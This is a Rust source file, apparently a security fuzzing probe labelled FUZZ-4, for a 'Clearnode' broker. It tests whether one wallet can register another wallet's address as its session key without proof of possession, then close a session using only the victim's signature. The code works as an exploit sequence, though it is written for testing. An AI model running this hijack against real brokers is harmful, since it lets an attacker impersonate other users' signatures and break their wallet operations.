//! FUZZ-4: session-key hijack of a foreign address. Wallet A registers wallet B's address as
//! its own session key: no proof of possession is asked (the session key never signs the
//! Policy, AUTH-7), and Clearnode then maps every signature of B's wallet to A
//! (`GetWalletBySessionKey`), so B's signature counts as A's in app-session quorums and B's own
//! wallet-signed calls fail.
//!
//! The probe shows the consequence, not only the registration: A opens a session in which A
//! holds the whole quorum, and B's wallet signature alone then closes it. No funds are needed.

use super::kit::{call, login, zero_rows, zero_session};
use super::record::{gist, ProbeResult, Transcript, Verdict};
use crate::crypto::identity::{derive, Role};
use serde_json::json;

const ID: &str = "FUZZ-4";
const APPLICATION: &str = "fuzz-4";

pub async fn run(url: &str, seed: u64) -> ProbeResult {
    let mut t = Transcript::default();
    let (a, b, c) = (
        derive(seed, Role::Wallet, 40),
        derive(seed, Role::Wallet, 41),
        derive(seed, Role::Wallet, 42),
    );
    t.note(format!(
        "A = {}, B = {} (a wallet, never logged in), C = {}: A asks for B's address as its \
         session key",
        a.address(),
        b.address(),
        c.address()
    ));
    let mut conn = match login(url, &a, &b.address(), APPLICATION, &mut t, "A").await {
        Ok(conn) => conn,
        Err(refusal) => return refused(url, seed, &a, refusal, &mut t).await.with(t),
    };
    let session = match zero_session(&mut conn, "A", APPLICATION, &a, &c.address(), &mut t).await {
        Ok(id) => id,
        Err(why) => {
            conn.close().await;
            return inconclusive(format!(
                "A registered B's address as its session key, but the session the probe needs \
                 was not created ({why})."
            ))
            .with(t);
        }
    };
    // Only B's wallet signs the close; A holds the whole quorum.
    let close =
        json!({"app_session_id": session, "allocations": zero_rows(&a.address(), &c.address())});
    let closed = call(
        &mut conn,
        "A",
        "close_app_session",
        &close,
        std::slice::from_ref(&b),
        &mut t,
    )
    .await;
    conn.close().await;
    let transfer = own_transfer(url, seed, &b, &c.address(), &mut t).await;
    let result = match closed {
        Ok(reply) if reply.frame.error_message().is_none() => ProbeResult::new(
            ID,
            None,
            Verdict::Vulnerable,
            format!(
                "A registered B's wallet address as its session key (no proof of possession), \
                 and B's wallet signature alone then closed A's session, in which A holds the \
                 whole quorum: B's signatures count as A's. B's own wallet-signed `transfer` got \
                 {transfer}."
            ),
        ),
        Ok(reply) => ProbeResult::new(
            ID,
            None,
            Verdict::Survived,
            format!(
                "A could register B's wallet address as its session key, but B's wallet \
                 signature was not counted for A: the close was refused with {}. B's own \
                 wallet-signed `transfer` got {transfer}.",
                gist(&reply.text)
            ),
        ),
        Err(e) => inconclusive(format!("the close got no reply ({e}).")),
    };
    result.with(t)
}

/// A refused the registration: for B's address, or for any login? A fresh key tells.
async fn refused(
    url: &str,
    seed: u64,
    a: &crate::crypto::SecretKey,
    refusal: String,
    t: &mut Transcript,
) -> ProbeResult {
    let fresh = derive(seed, Role::SessionKey, 40).address();
    match login(url, a, &fresh, "fuzz-4-control", t, "A2").await {
        Ok(control) => {
            control.close().await;
            ProbeResult::new(
                ID,
                None,
                Verdict::Survived,
                format!(
                    "registering B's wallet address as A's session key was refused \
                     ({refusal}) while A's login with a fresh key was accepted."
                ),
            )
        }
        Err(e) => inconclusive(format!("A could not log in at all ({refusal}; {e}).")),
    }
}

fn inconclusive(summary: String) -> ProbeResult {
    ProbeResult::new(ID, None, Verdict::Inconclusive, summary)
}

/// B logs in with a key of its own and sends a `transfer` signed by its wallet key: Clearnode
/// maps B's signature to A and answers `invalid signature`; an unaffected broker judges the
/// transfer itself (B holds nothing). The reply's gist.
async fn own_transfer(
    url: &str,
    seed: u64,
    b: &crate::crypto::SecretKey,
    to: &str,
    t: &mut Transcript,
) -> String {
    let key = derive(seed, Role::SessionKey, 41).address();
    let mut conn = match login(url, b, &key, "clearnode", t, "B").await {
        Ok(conn) => conn,
        Err(e) => return format!("no chance: B could not log in ({e})"),
    };
    let params = json!({"destination": to, "allocations": [{"asset": "usdc", "amount": "1"}]});
    let out = match call(
        &mut conn,
        "B",
        "transfer",
        &params,
        std::slice::from_ref(b),
        t,
    )
    .await
    {
        Ok(reply) => gist(&reply.text),
        Err(e) => format!("no reply ({e})"),
    };
    conn.close().await;
    out
}
